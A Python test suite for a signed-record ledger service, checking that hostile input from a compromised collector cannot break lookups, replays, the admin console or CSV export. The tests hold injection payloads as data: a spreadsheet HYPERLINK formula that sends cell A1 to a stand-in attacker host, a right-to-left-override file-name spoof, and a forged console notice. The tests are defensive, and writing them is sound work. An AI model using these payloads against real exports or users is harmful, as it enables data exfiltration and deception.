"""Documents a compromised collector can sign and have logged (fingerprints and records of odd
but accepted shape, hostile text) break nothing for other users: their cache misses and
replays still answer, the console renders, its CSV export runs no formula, and no signed text
shows other than it is."""

from __future__ import annotations

import csv
import html
import io
import re
from typing import Any
from unittest import mock

import httpx
import rfc8785

from ledger.fingerprint import FINGERPRINT_KIND
from ledger.signing import SigningKey, sign_envelope
from ledger.storage.audit import audit
from ledger.storage.log import log_size
from tests.support.documents import record_v2
from tests.support.harness import Harness
from tests.support.workers import heartbeat, post_heartbeat


def _fingerprint(api: Harness, key: SigningKey, body: dict[str, Any]) -> str:
    resp = api.client().post(
        "/v1/fingerprints", content=sign_envelope(FINGERPRINT_KIND, body, key).canonical
    )
    assert resp.status_code == 201, resp.text
    fp: str = resp.json()["fingerprint_id"]
    return fp


def _post(api: Harness, key: SigningKey, fp: str, **kw: Any) -> str:
    env, disclosures = record_v2(key, fp, **kw)
    resp = api.client().post(
        "/v1/records", json={"records": [{"envelope": env.to_dict(), "disclosures": disclosures}]}
    )
    assert resp.status_code == 201, resp.text
    rid: str = env.body["request_id"]
    return rid


def _console(api: Harness) -> httpx.Client:
    c = httpx.Client(base_url=api.url, follow_redirects=False, timeout=30)
    form = c.get("/ui/signin")
    token = re.search(r'name="form_token" value="([^"]+)"', form.text)
    assert token is not None
    resp = c.post(
        "/ui/signin",
        data={"form_token": token[1], "next": "/ui/records", "token": api.token("admin")},
    )
    assert resp.status_code == 303, resp.text
    return c


def test_a_fingerprint_of_odd_shape_breaks_no_other_lookup_or_replay(api: Harness) -> None:
    """Its chat template a string, its engine a string: accepted, and every other user's cache
    miss and replay still answers as before (they answered 500)."""
    attacker = api.collector()
    for body in (
        {"schema_version": 1, "model": {"name": "x", "chat_template": "oops"}},
        {"schema_version": 1, "model": {"name": "y", "chat_template": ["oops"]}},
    ):
        _fingerprint(api, attacker, body)
    odd_engine = _fingerprint(api, attacker, {"schema_version": 1, "model": {"name": "z"},
                                              "engine": "oops"})  # fmt: skip
    live = heartbeat(attacker, worker_id="evil-w", pool="evil-pool", url="http://127.0.0.1:9",
                     fingerprint_id=odd_engine)  # fmt: skip
    assert post_heartbeat(api, live).status_code == 200

    victim, fp = api.setup_collector()
    rid = _post(api, victim, fp, text_prompt=True, request_extra={"temperature": 0})
    for endpoint, request in (
        ("/v1/completions", {"prompt": "never seen", "temperature": 0}),
        ("/v1/chat/completions", {"messages": [{"role": "user", "content": "hi"}],
                                  "temperature": 0}),
    ):  # fmt: skip
        miss = api.client().post(
            "/v1/cache/lookup",
            json={"endpoint": endpoint, "request": request, "fingerprint_id": fp},
        )
        assert miss.status_code == 200 and miss.json()["hit"] is False, miss.text
    replay = api.client().post("/v1/replays", json={"request_id": rid})
    assert replay.status_code == 409, replay.text
    assert replay.json()["error"]["code"] == "no_matching_pool"


def test_the_console_renders_records_and_fingerprints_of_odd_shape(api: Harness) -> None:
    key = api.collector()
    a = _fingerprint(api, key, {"schema_version": 1, "model": {"name": "a", "files": [
        {"path": 1, "sha256": "x"}, {"path": ["p"], "sha256": "y"}]}})  # fmt: skip
    b = _fingerprint(api, key, {"schema_version": 1, "model": {"name": "b", "files": [
        {"path": "x", "sha256": "y"}]}})  # fmt: skip
    odd = _post(api, key, b, request_extra={"prompt": None, "messages": 5})
    c = _console(api)
    for path in ("/ui/records", f"/ui/records/{odd}", f"/ui/diff?a={a}&b={b}"):
        page = c.get(path)
        assert page.status_code == 200, (path, page.text[:300])
    assert '"messages": 5' in html.unescape(c.get(f"/ui/records/{odd}").text)  # as sent


def test_signed_text_shows_as_it_is_and_exports_run_no_formula(api: Harness) -> None:
    key = api.collector()
    engine = {"name": "vllm", "version": "\u202egnp.exe"}  # reads "exe.png" unless shown
    fp = _fingerprint(api, key, {"schema_version": 1, "model": {"name": "m"}, "engine": engine})
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    env, disclosures = record_v2(key, fp, model=formula, pool="-A1")
    resp = api.client().post(
        "/v1/records", json={"records": [{"envelope": env.to_dict(), "disclosures": disclosures}]}
    )
    assert resp.status_code == 201, resp.text
    c = _console(api)
    page = c.get(f"/ui/fingerprints/{fp}").text
    assert "\u202e" not in page and "[U+202E]gnp.exe" in page
    rows = list(csv.DictReader(io.StringIO(c.get("/ui/records.csv").text)))
    (row,) = [r for r in rows if r["request_id"] == env.body["request_id"]]
    assert row["model"] == "'" + formula and row["pool"] == "'-A1"


def test_the_record_page_shows_only_the_notices_its_forms_send(api: Harness) -> None:
    key, fp = api.setup_collector()
    rid = _post(api, key, fp)
    c = _console(api)
    forged = c.get(f"/ui/records/{rid}", params={"done": "erased. Your token was revoked"})
    assert "Done:" not in forged.text and "revoked" not in forged.text
    assert "Done: held." in c.get(f"/ui/records/{rid}", params={"done": "held"}).text


def test_a_record_nested_past_the_limit_is_refused_at_ingest(api: Harness) -> None:
    """A record nesting deeper than 128 levels (a collector records no request deeper than 64)
    is refused, schema v1 and v2 alike, so nothing the ledger logs is past what a verifier
    reads; one just within is logged and its bundle verifies."""
    from ledger.evidence import verify_bundle
    from ledger.inference_record import MAX_RECORD_DEPTH

    key = api.collector()
    fp = api.fingerprint(key)

    def nested(levels: int) -> Any:
        value: Any = 1
        for _ in range(levels):
            value = [value]
        return value

    # the request is at depth 2 of the body, its member "x" at 3: x's arrays fill the rest
    within, past = nested(MAX_RECORD_DEPTH - 2), nested(MAX_RECORD_DEPTH - 1)
    for extra, status in ((within, 201), (past, 422)):
        v1 = api.record(key, fp, request_extra={"x": extra})
        answer = api.post([v1])
        assert answer.status_code == status, answer.text
        env, disclosures = record_v2(key, fp, request_extra={"x": extra})
        answer = api.client().post(
            "/v1/records",
            json={"records": [{"envelope": env.to_dict(), "disclosures": disclosures}]},
        )
        assert answer.status_code == status, answer.text
        if status == 422:
            assert answer.json()["error"]["code"] == "schema_violation"
            assert "deeper than 128 levels" in answer.json()["error"]["message"]
        else:
            rid = env.body["request_id"]
            bundle = api.client().get(f"/v1/records/{rid}/evidence").json()
            assert verify_bundle(bundle, api.log_key.public_key).request_id == rid


def test_a_fingerprint_nested_past_the_limit_is_refused_at_ingest(api: Harness) -> None:
    """A fingerprint is carried in every bundle of its records: one nesting past 128 levels
    (the collector writes a handful) is refused, so no collector can log one that the browser's
    verifier (at most 900 levels of JSON) rejects while ``ledger verify`` accepts it."""
    from ledger.fingerprint import FINGERPRINT_KIND
    from ledger.nesting import MAX_DEPTH
    from ledger.signing import sign_envelope
    from tests.support.documents import fingerprint_body

    key = api.collector()

    def nested(levels: int) -> Any:
        value: Any = 1
        for _ in range(levels):
            value = [value]
        return value

    # the body is depth 1, "model" 2, its member "x" 3: x's arrays fill the rest
    for levels, status in ((MAX_DEPTH - 2, 201), (MAX_DEPTH - 1, 422), (930, 422)):
        body = fingerprint_body(f"deep-{levels}")
        body["model"]["x"] = nested(levels)
        envelope = sign_envelope(FINGERPRINT_KIND, body, key)
        answer = api.client().post("/v1/fingerprints", content=envelope.canonical)
        assert answer.status_code == status, answer.text
        if status == 422:
            assert answer.json()["error"]["code"] == "schema_violation"
            assert "fingerprint nests deeper than 128 levels" in answer.json()["error"]["message"]


def _signed_elsewhere(kind: str, body: dict[str, Any], key: SigningKey) -> dict[str, Any]:
    """An envelope signed over the reference RFC 8785 bytes (``rfc8785``), as a collector
    built on another canonicalizer signs it: that library writes an integral float beyond
    2**53 as integer digits."""
    sig = key.sign(rfc8785.dumps(body))
    return {
        "kind": kind,
        "body": body,
        "signature": {"alg": "ed25519", "key_id": key.key_id, "sig": sig},
    }


BEYOND_SAFE = -3.607410259360783e16  # RFC 8785 writes it "-36074102593607830"


def test_a_number_that_reads_back_beyond_the_safe_range_is_refused_at_ingest(api: Harness) -> None:
    """A float such as -3.6e16 has canonical form "-36074102593607830", which reads back as an
    integer beyond the safe range: a record or fingerprint carrying one was logged, and then
    ``ledger audit`` could not canonicalize its leaf ("integer ... is out of range"). Each is
    refused with 422 ``not_canonicalizable``, nothing is logged, and the audit still passes."""
    from ledger.record_v2 import commit_record
    from ledger.records import RECORD_KIND
    from tests.support.documents import fingerprint_body, record_body

    key = api.collector()
    fp = api.fingerprint(key)
    with api.db.read() as session:
        size = log_size(session)

    v1 = record_body(fp, request_extra={"seed_hint": BEYOND_SAFE})
    # its disclosures made by the reference canonicalizer too, which accepts the number
    with mock.patch("ledger.disclosures.canonicalize", rfc8785.dumps):
        v2_body, disclosures = commit_record(
            record_body(fp, request_extra={"temperature": 2.0**60})
        )
    fingerprint = fingerprint_body()
    fingerprint["model"]["size"] = 2.0**53
    records_v2 = {
        "records": [
            {"envelope": _signed_elsewhere(RECORD_KIND, v2_body, key), "disclosures": disclosures}
        ]
    }
    answers = [
        api.client().post(
            "/v1/records", json={"envelopes": [_signed_elsewhere(RECORD_KIND, v1, key)]}
        ),
        api.client().post("/v1/records", json=records_v2),
        api.client().post(
            "/v1/fingerprints", json=_signed_elsewhere(FINGERPRINT_KIND, fingerprint, key)
        ),
    ]
    assert [a.status_code for a in answers] == [422] * 3, [a.text for a in answers]
    assert {a.json()["error"]["code"] for a in answers} == {"not_canonicalizable"}
    with api.db.read() as session:
        assert log_size(session) == size
    report = audit(api.db, api.log_key.public_key)
    assert report.ok, [f.to_dict() for f in report.findings]


def test_a_record_is_keyed_as_its_signed_bytes_read_back(api: Harness) -> None:
    """The signature covers the canonical bytes, where 7.0 is written 7 and -0.0 is 0, so a
    collector may send either inside the free-form request. Ingest keyed the request as sent,
    every later reader the bytes read back: ``stop_token_ids: [7.0]`` got no cache keys at
    ingest while the audit derived two (it named the missing rows), and no lookup found the
    record. Now ingest keys it as the audit does: found by a lookup, the audit clean. (Typed
    members stay strict: ``tier: 1.0`` is refused, tests/api/test_bad_input.py.)"""
    import json

    from ledger.records import RECORD_KIND
    from tests.support.documents import record_body

    key = api.collector()
    fp = api.fingerprint(key)
    extra = {"stop_token_ids": [7], "temperature": 0}
    body = record_body(fp, text_prompt=True, request_extra=extra)
    sent = json.loads(json.dumps(sign_envelope(RECORD_KIND, body, key).to_dict()))
    sent["body"]["request"]["stop_token_ids"] = [7.0]
    sent["body"]["request"]["temperature"] = -0.0
    answer = api.client().post("/v1/records", json={"envelopes": [sent]})
    assert answer.status_code == 201, answer.text
    lookup = api.client().post(
        "/v1/cache/lookup",
        json={"endpoint": "/v1/completions", "request": body["request"], "fingerprint_id": fp},
    )
    assert lookup.status_code == 200, lookup.text
    assert lookup.json()["hit"] is True and lookup.json()["request_id"] == body["request_id"]
    report = audit(api.db, api.log_key.public_key)
    assert report.ok, [f.to_dict() for f in report.findings]
